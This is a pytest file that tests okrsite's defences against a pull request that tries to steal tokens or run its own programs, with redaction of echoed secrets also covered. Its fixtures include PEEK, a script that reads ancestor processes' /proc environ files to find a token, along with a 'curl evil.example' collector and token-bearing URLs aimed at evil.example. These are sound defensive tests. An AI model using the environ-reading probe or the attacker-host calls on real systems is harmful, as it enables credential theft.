"""Tokens and programs only where the maintainers allow, and no secret in a message: threats T1,
T2 and T5 of the threat model (help/threat-model.md), each tried as an attacker who
writes okrs/ would, against `okrsite check` and against `okrsite collect` with real servers."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from okrsite import pipeline
from okrsite.cli import main
from okrsite.collect import github as github_reader
from okrsite.collect.github import read_github
from okrsite.collect.http import http_get
from okrsite.collect.readings import SourceContext, SourceError
from okrsite.collect.redact import FRAGMENT, redact
from okrsite.model.source_policy import SETTINGS_FILE, CollectSettings, Origin, host_entry
from okrsite.model.sources import GithubSource
from okrsite.site.markup import md_text
from tests.conftest import MINIMAL, WriteRepo
from tests.fake_github import Canned, FakeGithub, Repo, error_body
from tests.test_sources import with_source
from tests.trust import Authority, serve_tls

TODAY = date(2026, 11, 20)
DAY = date(2026, 11, 19)
# Made up, in the shape of a GitHub App's installation token: 40 characters, random-looking.
TOKEN = "ghs_Q8zK3vW1pR7mX2nB5cL9dF4hJ6tY0uE3aS1k"
SETTINGS = SETTINGS_FILE
HOSTS = "hosts:\n  - prometheus.northwind.example\nprograms: collectors\n"


def found(root: Path, code: str) -> list[str]:
    """`LINE CODE MESSAGE` of each problem of code that check reports."""
    problems = pipeline.check(root, TODAY).problems
    return [f"{p.location.line} {p.code} {p.message}" for p in problems if p.code == code]


def prometheus(url: str, token_env: str | None = "PROMETHEUS_TOKEN") -> str:
    """A prometheus source: block for with_source."""
    token = f"token_env: {token_env}\n" if token_env else ""
    return f"kind: prometheus\nurl: '{url}'\nquery: up\n{token}"


# --- T1 at check time -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://prometheus.northwind.example/",  # plain http
        "https://prometheus.northwind.example.evil.example/",  # a listed name as a prefix
        "https://evil-prometheus.northwind.example/",
        "https://prometheus.northwind.example:8443/",  # another port of a listed host
        "https://10.0.0.7/",  # an IP literal
        "https://[::1]/",
        "https://evil.example/",
    ],
)
def test_a_token_to_a_host_off_the_list_is_a_located_check_error(
    write_repo: WriteRepo, url: str
) -> None:
    """T1: a pull request points a token at a host of its choosing; check refuses it at source:."""
    root = write_repo({**with_source(prometheus(url)), SETTINGS: HOSTS})
    (problem,) = found(root, "OKR018")
    assert problem.startswith("14 OKR018 key result 'payments/delivery/lead-time' source: ")
    assert ("plain http" in problem) == url.startswith("http:")


@pytest.mark.parametrize(
    "url",
    [
        "https://prometheus.northwind.example/",
        "https://PROMETHEUS.Northwind.Example/api/",  # host names are not case-sensitive
        "https://prometheus.northwind.example./",  # the trailing dot of a fully qualified name
        "https://prometheus.northwind.example:443/",
    ],
)
def test_a_token_to_a_listed_host_over_https_passes(write_repo: WriteRepo, url: str) -> None:
    """T1: the same host however it is written."""
    root = write_repo({**with_source(prometheus(url)), SETTINGS: HOSTS})
    assert found(root, "OKR018") == []


def test_the_message_says_what_a_maintainer_would_do(write_repo: WriteRepo) -> None:
    """T1: the refusal names the settings file and the entry to add."""
    root = write_repo({**with_source(prometheus("https://metrics.example.net/")), SETTINGS: HOSTS})
    assert found(root, "OKR018") == [
        "14 OKR018 key result 'payments/delivery/lead-time' source: PROMETHEUS_TOKEN would go to "
        "https://metrics.example.net, which .github/okrsite-sources.yaml does not list under "
        "hosts:; a maintainer adds 'metrics.example.net' there (a reviewed change), or the "
        "source reads without token_env"
    ]


def test_without_settings_no_token_but_github_s_goes_anywhere(write_repo: WriteRepo) -> None:
    """T1: no settings file lists no host."""
    root = write_repo(with_source(prometheus("https://prometheus.northwind.example/")))
    assert len(found(root, "OKR018")) == 1


def test_a_source_without_a_token_may_read_any_address(write_repo: WriteRepo) -> None:
    """Public data gives nothing away: plain http and any host pass without token_env."""
    block = "kind: json\nurl: http://stats.example/x.json\nexpression: a\n"
    root = write_repo(with_source(block))
    assert found(root, "OKR018") == []


@pytest.mark.parametrize(
    ("api_url", "env", "refused"),
    [
        (None, None, False),  # api.github.com, GITHUB_API_URL unset
        ("https://api.github.com", "https://api.github.com", False),
        ("https://evil.example/api/v3", None, True),
        ("http://api.github.com", None, True),  # plain http
        ("https://ghe.northwind.example/api/v3", "https://ghe.northwind.example/api/v3", False),
        ("https://api.github.com", "https://ghe.northwind.example/api/v3", True),
        ("https://ghe.northwind.example/api/v3", "http://ghe.northwind.example/api/v3", True),
    ],
)
def test_github_token_goes_only_to_the_workflow_s_github(
    write_repo: WriteRepo,
    monkeypatch: pytest.MonkeyPatch,
    api_url: str | None,
    env: str | None,
    refused: bool,
) -> None:
    """T1: `api_url:` with the default token_env, GITHUB_TOKEN, the Collect job's write token."""
    if env is None:
        monkeypatch.delenv("GITHUB_API_URL", raising=False)
    else:
        monkeypatch.setenv("GITHUB_API_URL", env)
    block = "kind: github\nmeasure: lead-time\nrepositories: [acme/shop]\n"
    block += f"api_url: {api_url}\n" if api_url else ""
    root = write_repo({**with_source(block), SETTINGS: HOSTS})
    assert bool(found(root, "OKR018")) == refused


def test_another_token_to_github_needs_the_host_listed(write_repo: WriteRepo) -> None:
    """T1: a token of its own for GitHub goes only where the list says, api.github.com too."""
    block = "kind: github\nmeasure: lead-time\nrepositories: [acme/shop]\ntoken_env: ACME_PAT\n"
    root = write_repo({**with_source(block), SETTINGS: HOSTS})
    assert len(found(root, "OKR018")) == 1
    root = write_repo({**with_source(block), SETTINGS: "hosts: [api.github.com]\n"})
    assert found(root, "OKR018") == []


def test_a_credential_in_token_env_is_never_repeated(write_repo: WriteRepo) -> None:
    """T5: check says what is wrong without echoing the credential."""
    root = write_repo(with_source(prometheus("https://p.example/", token_env=TOKEN)))
    problems = [str(p) for p in pipeline.check(root, TODAY).problems]
    assert any(
        "token_env holds what looks like a token, not a variable name" in p for p in problems
    )
    assert not any(TOKEN[:FRAGMENT] in p for p in problems)


# --- the settings file ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            "hosts: ['https://prometheus.northwind.example/']\n",
            "1 OKR026 collect settings: 'https://prometheus.northwind.example/' is not a host: "
            "write the host name alone, or HOST:PORT, without https:// or a path, "
            "e.g. prometheus.northwind.example",
        ),
        (
            "hosts: ['user@prometheus.northwind.example']\n",
            "1 OKR026 collect settings: 'user@prometheus.northwind.example' is not a host: "
            "write the host name alone, or HOST:PORT, without https:// or a path, "
            "e.g. prometheus.northwind.example",
        ),
        (
            "programs: okrs/collectors\n",
            "1 OKR026 collect settings: programs 'okrs/collectors' must not be under okrs/, which "
            "a pull request may write (or a hidden folder); keep the programs in a folder of "
            "their own, e.g. collectors",
        ),
        (
            "programs: ../elsewhere\n",
            "1 OKR026 collect settings: programs '../elsewhere' must be a folder relative to the "
            "repository's root, e.g. collectors",
        ),
    ],
)
def test_a_settings_file_that_cannot_be_used(
    write_repo: WriteRepo, settings: str, message: str
) -> None:
    root = write_repo({**MINIMAL, SETTINGS: settings})
    assert found(root, "OKR026") == [message]


def test_settings_that_are_a_link_into_okrs_are_refused(write_repo: WriteRepo) -> None:
    """T1: a link would let a pull request write the allowlist through okrs/."""
    root = write_repo({**MINIMAL, "okrs/hosts.txt": "hosts: [evil.example]\n"})
    (root / ".github").mkdir()
    (root / SETTINGS).symlink_to(root / "okrs" / "hosts.txt")
    (problem,) = found(root, "OKR026")
    assert "is a symbolic link, or lies under one" in problem


def test_a_programs_folder_that_is_a_link_is_refused(write_repo: WriteRepo) -> None:
    """T2: collectors/ as a link into okrs/ would run what a pull request wrote."""
    root = write_repo({**MINIMAL, "okrs/2026-Q4/tools/x.sh": "#!/bin/sh\necho 1\n"})
    (root / "collectors").symlink_to(root / "okrs" / "2026-Q4" / "tools")
    (problem,) = found(root, "OKR026")
    assert "the programs folder collectors/ is a symbolic link" in problem


@pytest.mark.parametrize(
    ("entry", "origin"),
    [
        ("prometheus.northwind.example", Origin("https", "prometheus.northwind.example", 443)),
        ("Metrics.Example.NET.", Origin("https", "metrics.example.net", 443)),
        ("metrics.example.net:8443", Origin("https", "metrics.example.net", 8443)),
        ("https://metrics.example.net", None),
        ("metrics.example.net/path", None),
        ("metrics example", None),
        ("metrics.example.net%2eevil.example", None),
        ("metrics.example.net\\@evil.example", None),
    ],
)
def test_host_entries(entry: str, origin: Origin | None) -> None:
    assert host_entry(entry) == origin


# --- T2 at check time -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "program",
    ["okrs/2026-Q4/pages.sh", "content/pages.sh", "tools/pages.sh", "collectors", "pages.sh"],
)
def test_a_program_outside_the_programs_folder_is_a_located_check_error(
    write_repo: WriteRepo, program: str
) -> None:
    """T2: a pull request adds a program under okrs/ and names it in a command source."""
    root = write_repo({**with_source(f"kind: command\ncommand: [{program}]\n"), SETTINGS: HOSTS})
    (problem,) = found(root, "OKR025")
    assert problem.startswith(
        f"14 OKR025 key result 'payments/delivery/lead-time' source: the program '{program}' is "
        "not in the programs folder collectors/ that .github/okrsite-sources.yaml declares"
    )


def test_a_program_in_the_programs_folder_passes(write_repo: WriteRepo) -> None:
    root = write_repo(with_source("kind: command\ncommand: [./collectors/pages.sh, '28']\n"))
    assert found(root, "OKR025") == []


def test_a_climb_out_of_the_programs_folder_is_refused(write_repo: WriteRepo) -> None:
    """T2: `..` never passes (OKR019 at load, the programs folder's rule again at collect)."""
    root = write_repo(with_source("kind: command\ncommand: [collectors/../okrs/x.sh]\n"))
    problems = [p.code for p in pipeline.check(root, TODAY).problems if p.severity == "error"]
    assert "OKR019" in problems or "OKR025" in problems
    refusal = CollectSettings().program_refusal("collectors/../okrs/x.sh")
    assert refusal is not None


# --- T2 at collect time -----------------------------------------------------------------------


def collect_cli(root: Path, *args: str) -> Any:
    """`okrsite collect --date DAY --dry-run` on root."""
    return CliRunner().invoke(
        main, ["collect", "--root", str(root), "--date", DAY.isoformat(), "--dry-run", *args]
    )


def test_collect_runs_no_program_through_a_link_out_of_the_folder(write_repo: WriteRepo) -> None:
    """T2: collectors/pages.sh a link to a program under okrs/ is refused before it runs."""
    root = write_repo(
        {
            **with_source("kind: command\ncommand: [collectors/pages.sh]\n"),
            "okrs/run.sh": "#!/bin/sh\ntouch ran\necho 1\n",
        }
    )
    (root / "okrs" / "run.sh").chmod(0o755)
    (root / "collectors").mkdir()
    (root / "collectors" / "pages.sh").symlink_to(root / "okrs" / "run.sh")
    result = collect_cli(root)
    assert result.exit_code == 1
    assert (
        "collectors/pages.sh leads out of the programs folder collectors/ through a symbolic link"
        in result.stderr
    )
    assert not (root / "ran").exists()


def test_only_and_skip_choose_the_kinds_read(write_repo: WriteRepo) -> None:
    """T2: `--skip command` in the step holding tokens, `--only command` in one holding none."""
    files = with_source("kind: command\ncommand: [collectors/pages.sh]\n")
    root = write_repo({**files, "collectors/pages.sh": "#!/bin/sh\necho 4\n"})
    (root / "collectors" / "pages.sh").chmod(0o755)
    only = collect_cli(root, "--only", "command")
    assert only.exit_code == 0, only.output
    assert "command: 4 from collectors/pages.sh" in only.stdout
    skipped = collect_cli(root, "--skip", "command")
    assert skipped.exit_code == 0
    assert skipped.stdout == ""
    assert "0 of 0 key results read" in skipped.stderr
    wrong = collect_cli(root, "--only", "shell")
    assert wrong.exit_code == 2
    assert "'shell' is not one of 'github', 'prometheus', 'json', 'command'" in wrong.output


PEEK = """\
#!/usr/bin/env python3
# Walk up from this program's parent, reading each ancestor's environment as a program of the
# same user can, and print 1 if the token given as argument is in one, else 0.
import sys

token = sys.argv[1].encode()
pid, seen = 0, False
with open("/proc/self/stat", "rb") as stat:
    pid = int(stat.read().rpartition(b")")[2].split()[1])
while pid > 1:
    try:
        with open(f"/proc/{pid}/environ", "rb") as environ:
            seen = seen or token in environ.read()
        print(f"{pid}: read", file=sys.stderr)
    except OSError as error:
        print(f"{pid}: {error.strerror}", file=sys.stderr)
    try:
        with open(f"/proc/{pid}/stat", "rb") as stat:
            pid = int(stat.read().rpartition(b")")[2].split()[1])
    except OSError:
        break
print(1 if seen else 0)
"""


@contextmanager
def shared_folder() -> Iterator[Path]:
    """A folder under /tmp that an unprivileged user can read (pytest's own are root's only)."""
    folder = Path(tempfile.mkdtemp(prefix="okrsite-t2-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


def as_unprivileged() -> dict[str, Any]:
    """subprocess options that run a command as an ordinary user: as root, every process could
    read every other's environment (CAP_SYS_PTRACE), so the test would show nothing."""
    if os.geteuid() != 0:
        return {}
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv to drop to an ordinary user")
    return {"user": 65534, "group": 65534, "extra_groups": []}


def system_python() -> str:
    """A Python the ordinary user may run, with okrsite and its dependencies importable."""
    if os.geteuid() != 0:
        return sys.executable
    for candidate in ("/usr/bin/python3", "/usr/local/bin/python3"):
        if Path(candidate).exists():
            probe = subprocess.run(
                [candidate, "-c", "import sys; print(sys.version_info[:2])"],
                capture_output=True,
                text=True,
                check=False,
            )
            if probe.stdout.strip() == str(sys.version_info[:2]):
                return candidate
    pytest.skip("no system Python of this version for an ordinary user to run okrsite with")


@pytest.mark.skipif(sys.platform != "linux", reason="/proc and prctl are Linux's")
def test_a_program_cannot_read_collect_s_token_from_proc(write_repo: WriteRepo) -> None:
    """T2: a program in the programs folder reads /proc/<parent>/environ and its grandparents'
    looking for GITHUB_TOKEN's value; collect, non-dumpable, does not let it read its own."""
    options = as_unprivileged()
    python = system_python()
    site = next(p for p in sys.path if p.endswith("site-packages"))
    project = Path(__file__).resolve().parent.parent
    token = "ghs_t2ProbeTokenNeverToBeSeen0000000000000"
    source = f"kind: command\ncommand: [collectors/peek.py, {token}]\n"
    with shared_folder() as folder:
        template = write_repo({**with_source(source), "collectors/peek.py": PEEK})
        root = folder / "repo"
        shutil.copytree(template, root)
        (root / "collectors" / "peek.py").chmod(0o755)
        for path in [root, *root.rglob("*")]:
            path.chmod(0o777 if path.is_dir() else path.stat().st_mode | 0o644)
        env = {
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "HOME": str(folder),
            "PYTHONPATH": f"{project}:{site}",
            "GITHUB_TOKEN": token,
            "SOURCE_DATE_EPOCH": "1795564800",  # 2026-11-20
        }
        # The control: a plain parent holding the token, which the program can read.
        plain = subprocess.run(
            ["/bin/sh", "-c", f"{root}/collectors/peek.py {token}; true"],
            env=env,
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
            **options,
        )
        assert plain.stdout.strip() == "1", plain.stderr

        def collect_value(prelude: str) -> str:
            """The value the program printed, as `okrsite collect --dry-run` reports it."""
            done = subprocess.run(
                [
                    python,
                    "-c",
                    f"{prelude}from okrsite.cli import main; main()",
                    "collect",
                    "--root",
                    str(root),
                    "--date",
                    DAY.isoformat(),
                    "--dry-run",
                ],
                env=env,
                capture_output=True,
                text=True,
                check=False,
                timeout=120,
                cwd=folder,
                **options,
            )
            assert done.returncode == 0, done.stderr
            output: str = done.stdout
            return output.split(": ", 1)[1].split(",")[2]

        # 0: the token was in no ancestor's environment the program could read.
        assert collect_value("") == "0"
        # Without the prctl, the same program finds it in collect's: the probe is sound.
        unprotected = (
            "import okrsite.collect.command as c, okrsite.collect.run as r; "
            "c.protect_environment = r.protect_environment = lambda: False; "
        )
        assert collect_value(unprotected) == "1"


def test_collect_is_non_dumpable_before_a_program_runs() -> None:
    """T2: the prctl the defence rests on takes effect (Linux)."""
    if sys.platform != "linux":
        pytest.skip("prctl is Linux's")
    code = (
        "import ctypes; from okrsite.collect.no_dump import protect_environment; "
        "print(protect_environment(), ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout.split() == ["True", "0"]


# --- T1 and T5 at collect time, against servers on 127.0.0.1 ----------------------------------


class Seen:
    """What a server received."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str]] = []  # (path, Authorization)


@contextmanager
def server(
    answer: tuple[int, dict[str, str], bytes], tls: Authority | None
) -> Iterator[tuple[str, Seen]]:
    """A server on 127.0.0.1 giving one answer (status, headers, body) to every GET."""
    seen = Seen()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.requests.append((self.path, self.headers.get("Authorization", "")))
            status, headers, body = answer
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            """Quiet."""

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    if tls is not None:
        serve_tls(httpd, tls)
    thread = threading.Thread(target=httpd.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        scheme = "https" if tls else "http"
        yield f"{scheme}://127.0.0.1:{httpd.server_address[1]}", seen
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(5)


def allowing(url: str) -> CollectSettings:
    """Settings that list url's host and port, as a maintainer would."""
    origin = host_entry(url.split("://", 1)[1].split("/", 1)[0])
    assert origin is not None
    return CollectSettings(hosts=frozenset({origin}))


def context(settings: CollectSettings, **env: str) -> SourceContext:
    return SourceContext(root=Path("."), day=DAY, env=env, timeout=5.0, settings=settings)


def test_a_token_over_plain_http_is_never_sent(trusted: Authority) -> None:
    """T1: http://, even to a listed host: nothing is asked, so nothing can be overheard."""
    with server((200, {}, b"{}"), None) as (url, seen):
        settings = allowing(url)
        with pytest.raises(SourceError, match="a token goes only over https"):
            http_get(url + "/x", context(settings, T="secret-1234"), token_env="T")
    assert seen.requests == []


def test_a_token_to_a_host_off_the_list_is_never_sent(trusted: Authority) -> None:
    """T1: collect refuses again what check refused, before any request."""
    with (
        server((200, {}, b"{}"), trusted) as (url, seen),
        pytest.raises(SourceError, match="does not list under hosts"),
    ):
        http_get(url + "/x", context(CollectSettings(), T="secret-1234"), token_env="T")
    assert seen.requests == []


def test_the_token_goes_to_a_listed_host_over_https(trusted: Authority) -> None:
    with server((200, {}, b"{}"), trusted) as (url, seen):
        answer = http_get(url + "/x", context(allowing(url), T="secret-1234"), token_env="T")
    assert answer.status == 200
    assert seen.requests == [("/x", "Bearer secret-1234")]


@pytest.mark.parametrize("target", ["other-port", "plain-http-same-host"])
def test_a_redirect_never_carries_the_token_off_the_list(trusted: Authority, target: str) -> None:
    """T1: a listed server redirects to another; the token does not follow."""
    with server((200, {}, b'{"v": 1}'), trusted if target == "other-port" else None) as (
        elsewhere,
        other,
    ):
        location = elsewhere + "/stolen"
        with server((302, {"Location": location}, b""), trusted) as (url, seen):
            answer = http_get(url + "/x", context(allowing(url), T="secret-1234"), token_env="T")
    assert answer.status == 200
    assert seen.requests == [("/x", "Bearer secret-1234")]
    assert other.requests == [("/stolen", "")]


def test_the_guard_refuses_even_what_requests_would_forward(trusted: Authority) -> None:
    """T1, defence in depth: the adapter itself refuses a request with a token to an address
    the settings refuse, whatever put the header there."""
    from okrsite.collect.http import http_session

    with server((200, {}, b"{}"), trusted) as (url, seen):
        with (
            http_session(lambda _address: "not on the list") as session,
            pytest.raises(SourceError, match="refused to send the token: not on the list"),
        ):
            session.get(url, headers={"Authorization": "Bearer secret-1234"}, timeout=5)
        assert session.get(url, timeout=5).status_code == 200  # no token: any address
    assert seen.requests == [("/", "")]


@pytest.fixture
def github(trusted: Authority, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGithub]:
    """The fake GitHub over https, as the workflow's GitHub API (GITHUB_API_URL)."""
    monkeypatch.setattr(github_reader, "PACING_SECONDS", None)
    fake = FakeGithub()
    fake.add(Repo("acme/shop"))
    serve_tls(fake._server, trusted)
    fake.url = fake.url.replace("http://", "https://")
    fake.api_url = fake.api_url.replace("http://", "https://")
    fake.start()
    yield fake
    fake.stop()


def github_source(api_url: str) -> GithubSource:
    return GithubSource(
        measure="time-to-restore", repositories=("acme/shop",), label="incident", api_url=api_url
    )


def github_settings(fake: FakeGithub) -> CollectSettings:
    origin = host_entry(fake.url.removeprefix("https://"))
    return CollectSettings(github_api=origin)


def github_failure(fake: FakeGithub, settings: CollectSettings, token: str) -> str:
    with pytest.raises(SourceError) as caught:
        read_github(github_source(fake.api_url), context(settings, GITHUB_TOKEN=token))
    return str(caught.value)


def test_github_token_is_never_sent_to_another_github(github: FakeGithub) -> None:
    """T1: GITHUB_TOKEN to an api_url that is not the workflow's GitHub API: nothing is sent."""
    from tests.fake_github import TOKEN as FAKE_TOKEN

    message = github_failure(github, CollectSettings(), FAKE_TOKEN)
    assert message.startswith("GITHUB_TOKEN goes only to the GitHub API of the workflow")
    assert github.requests == []


def test_github_echoing_the_token_in_a_long_error_shows_no_part_of_it(github: FakeGithub) -> None:
    """T5: GitHub's 403 message echoes the token where its 200-character cut falls, and a
    field's value echoes it where the 40-character quote of a malformed time is cut."""
    from tests.fake_github import TOKEN as FAKE_TOKEN

    settings = github_settings(github)
    # The fake accepts its own token only; the echo carries it too, straddling the cut.
    echoed = "Forbidden: " + "x" * 175 + f" {FAKE_TOKEN} sent"
    github.queue(r"/repos/acme/shop", Canned(403, error_body(echoed, 403)))
    message = github_failure(github, settings, FAKE_TOKEN)
    assert "permission denied (403)" in message
    assert not any(
        FAKE_TOKEN[i : i + FRAGMENT] in message for i in range(len(FAKE_TOKEN) - FRAGMENT + 1)
    )
    issue = {"number": 1, "created_at": "2026-11-01T00:00:00Z", "closed_at": "x" * 20 + FAKE_TOKEN}
    github.queue(r"/repos/acme/shop/issues", Canned(200, json.dumps([issue])))
    message = github_failure(github, settings, FAKE_TOKEN)
    assert message.startswith("malformed answer to GET /repos/acme/shop/issues")
    assert not any(
        FAKE_TOKEN[i : i + FRAGMENT] in message for i in range(len(FAKE_TOKEN) - FRAGMENT + 1)
    )


def test_an_oversized_github_answer_is_refused(github: FakeGithub) -> None:
    """T5: a 40 MiB page was read whole; now reading stops past 10 MiB."""
    from tests.fake_github import TOKEN as FAKE_TOKEN

    huge = "[" + ",".join(['{"number": 1}'] * (11 * 1024 * 1024 // 14)) + "]"
    github.queue(r"/repos/acme/shop/issues", Canned(200, huge))
    message = github_failure(github, github_settings(github), FAKE_TOKEN)
    assert "sent more than 10 MiB; okrsite reads at most that" in message


def json_repo(write_repo: WriteRepo, url: str) -> Path:
    """A repository whose lead-time KR reads url with JSON_TOKEN, its host listed."""
    host = url.removeprefix("https://")
    block = f"kind: json\nurl: {url}/doc.json\nexpression: v\ntoken_env: JSON_TOKEN\n"
    return write_repo({**with_source(block), SETTINGS: f"hosts: ['{host}']\n"})


@pytest.mark.parametrize("pad", [0, 30, 45, 60, 75])
def test_a_json_value_echoing_the_token_shows_no_part_of_it(
    write_repo: WriteRepo, trusted: Authority, monkeypatch: pytest.MonkeyPatch, pad: int
) -> None:
    """T5: the document echoes the token in the value picked, the 80-character quote cut
    through it at each place; `okrsite collect` prints no piece of it."""
    monkeypatch.setenv("JSON_TOKEN", TOKEN)
    body = json.dumps({"v": "y" * pad + TOKEN + "z" * 40}).encode()
    with server((200, {}, body), trusted) as (url, seen):
        result = collect_cli(json_repo(write_repo, url))
    assert seen.requests == [("/doc.json", f"Bearer {TOKEN}")]
    assert result.exit_code == 1
    assert "gave the string" in result.stderr
    pieces = [TOKEN[i : i + FRAGMENT] for i in range(len(TOKEN) - FRAGMENT + 1)]
    assert not any(piece in result.output for piece in pieces)


def test_a_long_error_echoing_the_token_in_a_prometheus_answer(
    write_repo: WriteRepo, trusted: Authority, monkeypatch: pytest.MonkeyPatch
) -> None:
    """T5: Prometheus' error message, cut at 200 characters, echoes the token across the cut."""
    monkeypatch.setenv("PROMETHEUS_TOKEN", TOKEN)
    error = {"status": "error", "errorType": "bad_data", "error": "e" * 180 + f" {TOKEN}"}
    with server((400, {}, json.dumps(error).encode()), trusted) as (url, _seen):
        host = url.removeprefix("https://")
        root = write_repo({**with_source(prometheus(url + "/")), SETTINGS: f"hosts: ['{host}']\n"})
        result = collect_cli(root)
    assert "Prometheus refused the query (HTTP 400): bad_data: eeee" in result.stderr
    pieces = [TOKEN[i : i + FRAGMENT] for i in range(len(TOKEN) - FRAGMENT + 1)]
    assert not any(piece in result.output for piece in pieces)


def test_redaction_blots_out_pieces_left_by_a_cut() -> None:
    """T5: a token cut in two by an ellipsis, or echoed in part, leaves fewer than 8 of its
    characters."""
    assert redact(f"said {TOKEN[:30]}…", [TOKEN]) == "said [token]…"
    assert redact(f"{TOKEN[25:]} tail", [TOKEN]) == "[token] tail"
    assert redact(f"a {TOKEN[:7]} b", [TOKEN]) == f"a {TOKEN[:7]} b"  # 7: too few to matter
    assert redact("no secret here", [TOKEN, "", "ab"]) == "no secret here"


# --- okrsite diff flags what a change lets collect reach ----------------------------------------


def run_git(root: Path, *arguments: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=Test", "-c", "user.email=test@example.invalid", *arguments],
        cwd=root,
        check=True,
        capture_output=True,
    )


def diff_output(root: Path, base: str, *options: str) -> str:
    result = CliRunner().invoke(main, ["diff", base, "--root", str(root), *options])
    assert result.exit_code == 0, result.output
    return result.stdout


EVIL_PROMETHEUS = prometheus("https://evil.example/<b>x</b>", token_env="GITHUB_TOKEN")


def test_diff_flags_a_source_that_adds_a_host_a_token_or_a_program(
    write_repo: WriteRepo, tmp_path: Path
) -> None:
    """T1, T2: a pull request's job summary shows each new reach of a source, escaped."""
    base = write_repo({**MINIMAL, "collectors/pages.sh": "#!/bin/sh\necho 1\n"})
    run_git(base, "init", "-q", "-b", "main")
    run_git(base, "add", "-A")
    run_git(base, "commit", "-q", "-m", "base")
    changed = with_source(EVIL_PROMETHEUS)
    (base / "okrs/2026-Q4/payments.yaml").write_text(changed["okrs/2026-Q4/payments.yaml"])
    (base / "collectors/pages.sh").write_text("#!/bin/sh\ncurl evil.example\n")
    (base / "collectors/new.sh").write_text("#!/bin/sh\necho 2\n")
    (base / ".github").mkdir()
    (base / SETTINGS).write_text("hosts: [evil.example]\n")
    summary = diff_output(base, "main")
    section = summary.split("## Measurement sources to review\n", 1)[1]
    label = f"{md_text('2026-Q4')} / payments / delivery / lead-time"  # ids are slugs as they are
    files = (".github/okrsite-sources.yaml", "collectors/new.sh", "collectors/pages.sh")
    assert section == (
        "\nThis change lets `okrsite collect` reach something new: check each before merging.\n\n"
        f"- {label}: adds host {md_text('https://evil.example')}, "
        f"token {md_text('GITHUB_TOKEN')}\n\n"
        "Changed collect settings or programs:\n\n" + "".join(f"- {md_text(f)}\n" for f in files)
    )
    assert "<b>" not in summary
    data = json.loads(diff_output(base, "main", "--format", "json"))
    assert data["source_review"] == {
        "sources": [
            {
                "path": "2026-Q4/payments/delivery/lead-time",
                "hosts": ["https://evil.example"],
                "tokens": ["GITHUB_TOKEN"],
                "programs": [],
            }
        ],
        "files": [".github/okrsite-sources.yaml", "collectors/new.sh", "collectors/pages.sh"],
    }


def test_diff_flags_a_new_program_against_a_folder_base(
    write_repo: WriteRepo, tmp_path: Path
) -> None:
    """T2: a command source now naming another program, the base a folder."""
    before = tmp_path / "before"
    shutil.copytree(write_repo(with_source("kind: command\ncommand: [collectors/a.sh]\n")), before)
    after = write_repo(
        {
            **with_source("kind: command\ncommand: ['collectors/*b*.sh']\n"),
            "collectors/*b*.sh": "#!/bin/sh\necho 1\n",
        }
    )
    summary = diff_output(after, str(before))
    program = md_text("collectors/*b*.sh")
    assert "*" not in program
    assert f"lead-time: adds program {program}\n" in summary
    assert f"- {program}\n" in summary


def test_diff_says_nothing_of_sources_that_reach_nothing_new(
    write_repo: WriteRepo, tmp_path: Path
) -> None:
    before = tmp_path / "before"
    shutil.copytree(
        write_repo(with_source(prometheus("https://prometheus.northwind.example/"))), before
    )
    after = write_repo(with_source(prometheus("https://PROMETHEUS.northwind.example/api/")))
    assert "Measurement sources to review" not in diff_output(after, str(before))
